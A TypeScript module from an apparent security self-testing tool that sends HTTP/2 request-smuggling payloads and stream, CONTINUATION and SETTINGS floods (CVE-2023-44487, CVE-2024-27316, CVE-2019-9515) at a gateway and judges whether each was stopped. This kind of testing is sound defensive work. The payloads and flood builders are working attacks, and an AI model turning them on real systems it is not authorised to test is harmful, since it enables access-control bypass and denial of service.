import { nameOfHttp2Error } from '../../core/http2-errors.ts';
import {
  type Attack,
  gotThrough,
  inconclusive,
  type Judgement,
  notApplicable,
  type Probe,
  type Severity,
  stopped,
} from '../attack.ts';
import type { ProveContext } from '../context.ts';
import { faultOfSuccess, judgeRefusal, subjectFor, wasLetThrough } from '../probes.ts';
import { rightful } from '../survey.ts';
import {
  connectionPreface,
  encodeFields,
  formatHttp2,
  frame,
  type Http2Field,
  type Http2Text,
  parseHttp2,
} from '../wire/http2.ts';
import type { Observation } from '../wire/observation.ts';
import type { RequestText } from '../wire/request.ts';
import { hasPlainRequest, plainRequest, wasSmuggled } from './framing.ts';

interface Http2Row {
  readonly id: string;
  readonly title: string;
  readonly severity?: Severity;
  readonly standards?: readonly string[];
  /** On an operation that takes a body, where there is one that a probe may try. */
  readonly onWrite?: boolean;
  /** The field may be left out, and the rest be served: what it carries must reach nobody. */
  readonly mayBeDropped?: boolean;
  /** The rightful request, changed. `smuggled`: a whole request of HTTP/1.1 for whoever is behind. */
  readonly change: (fields: readonly Http2Field[], facts: { smuggled: string; marker: string }) => Http2Text;
}

const replaced = (fields: readonly Http2Field[], name: string, value: string): Http2Field[] =>
  fields.map((field) => (field[0] === name ? [name, value] : field));

/**
 * What HTTP/1.1 behind the gateway would take for framing, a line end or another request (RFC 9113, sections 8.2 and 10.3):
 * smuggling by downgrade.
 */
const rows: readonly Http2Row[] = [
  {
    id: 'http2.transfer-encoding',
    title: 'a Transfer-Encoding field, and the rest hidden behind the last chunk',
    severity: 'critical',
    onWrite: true,
    change: (fields, { smuggled }) => ({
      fields: [...fields, ['transfer-encoding', 'chunked']],
      data: `0\r\n\r\n${smuggled}`,
    }),
  },
  {
    id: 'http2.short-length',
    title: 'a Content-Length that is shorter than the data',
    severity: 'critical',
    onWrite: true,
    change: (fields, { smuggled }) => ({
      fields: [...fields, ['content-length', '0']],
      data: smuggled,
    }),
  },
  {
    id: 'http2.two-lengths',
    title: 'two Content-Length fields',
    severity: 'critical',
    onWrite: true,
    change: (fields, { smuggled }) => ({
      fields: [...fields, ['content-length', '0'], ['content-length', String(smuggled.length)]],
      data: smuggled,
    }),
  },
  {
    id: 'http2.line-end-in-value',
    title: 'a line end within a field value, and a request behind it',
    severity: 'critical',
    mayBeDropped: true,
    change: (fields, { smuggled }) => ({ fields: [...fields, ['x-probe', `a\r\n\r\n${smuggled}`]] }),
  },
  {
    id: 'http2.line-end-in-name',
    title: 'a line end within a field name, and a request behind it',
    severity: 'critical',
    mayBeDropped: true,
    change: (fields, { smuggled }) => ({ fields: [...fields, [`x-probe: a\r\n\r\n${smuggled}x-probe`, 'a']] }),
  },
  {
    id: 'http2.line-end-in-path',
    title: 'a whole request within the path',
    severity: 'critical',
    change: (fields, { marker }) => ({
      fields: replaced(fields, ':path', `/ HTTP/1.1\r\nhost: localhost\r\n\r\nGET ${marker}`),
    }),
  },
  {
    id: 'http2.line-end-in-method',
    title: 'a whole request within the method',
    severity: 'critical',
    change: (fields, { smuggled }) => ({ fields: replaced(fields, ':method', `${smuggled}GET`) }),
  },
  {
    id: 'http2.connection',
    title: 'a field of one connection (`Connection`)',
    change: (fields) => ({ fields: [...fields, ['connection', 'merlon-subject']] }),
  },
  {
    id: 'http2.capitals',
    title: 'a field name in capitals, past what compares in small letters',
    change: (fields) => ({ fields: [...fields, ['Merlon-Subject', 'root']] }),
  },
  {
    id: 'http2.two-paths',
    title: 'two paths',
    change: (fields, { marker }) => ({ fields: [[':path', marker], ...fields] }),
  },
  {
    id: 'http2.late-path',
    title: 'a path behind the ordinary fields',
    change: (fields, { marker }) => ({ fields: [...fields, ['x-probe', 'a'], [':path', marker]] }),
  },
  {
    id: 'http2.unknown-pseudo-field',
    title: 'a pseudo-field that nobody knows',
    severity: 'medium',
    change: (fields) => ({ fields: [[':merlon-prove', 'a'], ...fields] }),
  },
  {
    id: 'http2.other-host',
    title: 'an authority and a Host field that disagree',
    change: (fields) => ({ fields: [...fields, ['host', 'internal.invalid']] }),
  },
  {
    id: 'http2.nul',
    title: 'a credential with a NUL byte at its end',
    change: (fields) => ({
      fields: fields.map(([name, value]) => [name, name === 'authorization' ? `${value}\0` : value]),
    }),
  },
];

async function plainFields(context: ProveContext, id: string): Promise<Http2Field[]> {
  return fieldsOf(context, await plainRequest(context, id));
}

/** The fields of a rightful request with a body; the body and its length are the attack's own. */
async function writeFields(context: ProveContext, id: string): Promise<Http2Field[]> {
  const { write } = context.survey;
  if (write === undefined) return replaced(await plainFields(context, id), ':method', 'POST');
  return fieldsOf(context, await rightful(context, write, subjectFor(context, id)));
}

function fieldsOf(context: ProveContext, request: RequestText | undefined): Http2Field[] {
  const ordinary = (request?.headers ?? []).map(([name, value]): Http2Field => [name.toLowerCase(), value]);
  return [
    [':method', request?.method ?? 'GET'],
    [':scheme', 'https'],
    [':authority', context.target.edge.authority],
    [':path', request?.target ?? '/'],
    ...ordinary.filter(([name]) => name !== 'connection' && name !== 'host'),
  ];
}

function shown({ fields, data }: Http2Text): string {
  const lines = fields.map(([name, value]) => `${name}: ${value}`);
  return [...lines, ...(data === undefined ? [] : ['', data])].join('\n');
}

async function ask(context: ProveContext, text: Http2Text): Promise<Observation> {
  return context.edgeHttp2(formatHttp2(text), shown(text));
}

function http2Probe(context: ProveContext, row: Http2Row): Probe {
  const marker = `/merlon-prove-smuggled-${context.run}-${row.id.split('.')[1]}`;
  const smuggled = `GET ${marker} HTTP/1.1\r\nhost: ${context.target.edge.authority}\r\n\r\n`;
  const sinceMs = context.target.clock.now();
  return {
    place: 'the public port, HTTP/2',
    control: async () => ask(context, { fields: await plainFields(context, row.id) }),
    controlFault: faultOfSuccess,
    attack: async () => {
      const fields = await (row.onWrite === true ? writeFields : plainFields)(context, row.id);
      return ask(context, row.change(fields, { smuggled, marker }));
    },
    judge: async (attack) =>
      (await wasSmuggled(context, marker, sinceMs))
        ? gotThrough('the hidden request was decided on as a request of its own')
        : judgeHttp2(attack, row.mayBeDropped === true),
  };
}

const refused = judgeRefusal({
  status: [400, 401, 413, 431],
  codes: [
    'net.bad-header',
    'net.bad-framing',
    'net.bad-host',
    'net.bad-method',
    'net.bad-target',
    'net.bad-path',
    'net.headers-too-large',
    'authn.token-missing',
  ],
  filter: ['http', 'authn'],
});

/** Refused with a problem and a record, or cut by the protocol itself, which knows no problem documents. */
function judgeHttp2(attack: Observation, mayBeDropped: boolean): Judgement {
  if (mayBeDropped && attack.status === 200)
    return stopped('served without the field; nothing hidden was decided on, at the edge or behind it');
  if (wasLetThrough(attack)) return gotThrough(`answered with ${attack.status}`);
  if (attack.status !== 0) return refused(attack);
  const { transcript } = attack;
  const { reset, goAway } = parseHttp2(transcript?.bytes ?? Buffer.alloc(0));
  if (reset !== undefined && reset !== 0) return stopped(`the stream was reset: ${nameOfHttp2Error(reset)}`);
  if (goAway !== undefined && goAway !== 0) return stopped(`the connection was ended: ${nameOfHttp2Error(goAway)}`);
  return transcript?.closed === true && transcript.connected
    ? stopped('the connection was ended')
    : inconclusive('no answer came');
}

const resources = ['CWE-400', 'CWE-770', 'OWASP API4:2023'];

interface FloodRow {
  readonly id: string;
  readonly title: string;
  readonly standards: readonly string[];
  readonly frames: (block: Buffer) => Buffer;
  readonly shown: string;
}

const stream = (at: number): number => 2 * at + 1;

/** What costs the server more than its sender, if it does not count. */
const floods: readonly FloodRow[] = [
  {
    id: 'http2.rapid-reset',
    title: 'streams that are opened only to be reset, 600 of them',
    standards: ['CVE-2023-44487', ...resources],
    shown: '600 times: HEADERS, RST_STREAM (CANCEL)',
    frames: (block) =>
      Buffer.concat(
        Array.from({ length: 600 }, (_, at) => [
          frame('headers', 0x5, stream(at), block),
          frame('reset', 0, stream(at), Buffer.from([0, 0, 0, 8])),
        ]).flat(),
      ),
  },
  {
    id: 'http2.endless-fields',
    title: 'a header section that never ends, in CONTINUATION frames',
    standards: ['CVE-2024-27316', ...resources],
    shown: 'HEADERS without END_HEADERS, then 200 times CONTINUATION with 8 kB of fields',
    frames: (block) => {
      const more = encodeFields([['x-probe', 'a'.repeat(8000)]]);
      return Buffer.concat([
        frame('headers', 0x1, 1, block),
        ...Array.from({ length: 200 }, () => frame('continuation', 0, 1, more)),
      ]);
    },
  },
  {
    id: 'http2.settings-flood',
    title: 'settings that must be acknowledged, 5,000 times',
    standards: ['CVE-2019-9515', ...resources],
    shown: '5000 times: SETTINGS',
    frames: () => Buffer.concat(Array.from({ length: 5000 }, () => frame('settings', 0, 0, Buffer.alloc(0)))),
  },
];

function floodAttack({ id, title, standards, frames, shown: text }: FloodRow): Attack {
  return {
    id,
    title,
    severity: 'high',
    standards,
    plan: (context) =>
      applicable(context) ?? [
        {
          place: 'the public port, HTTP/2',
          control: async () => ask(context, { fields: await plainFields(context, id) }),
          controlFault: faultOfSuccess,
          attack: async () => {
            const block = encodeFields(await plainFields(context, id));
            return context.edgeFlood(Buffer.concat([connectionPreface, frames(block)]), text);
          },
          judge: judgeFlood,
        },
      ],
  };
}

/** The connection must be given up. */
function judgeFlood({ transcript }: Observation): Judgement {
  const { goAway } = parseHttp2(transcript?.bytes ?? Buffer.alloc(0));
  if (goAway !== undefined && goAway !== 0) return stopped(`the connection was ended: ${nameOfHttp2Error(goAway)}`);
  if (transcript?.connected !== true) return inconclusive('no connection could be made');
  return transcript.closed ? stopped('the connection was ended') : gotThrough('the connection was kept');
}

function applicable(context: ProveContext): ReturnType<typeof notApplicable> | undefined {
  if (!hasPlainRequest(context)) return notApplicable('no operation answers a simple GET', context.survey.faults.plain);
  return context.survey.speaksHttp2 ? undefined : notApplicable('the public port does not speak HTTP/2');
}

export const http2Attacks: readonly Attack[] = [
  ...rows.map(
    (row): Attack => ({
      id: row.id,
      title: row.title,
      severity: row.severity ?? 'high',
      standards: row.standards ?? ['CWE-444', 'OWASP API8:2023'],
      plan: (context) => applicable(context) ?? [http2Probe(context, row)],
    }),
  ),
  ...floods.map(floodAttack),
];
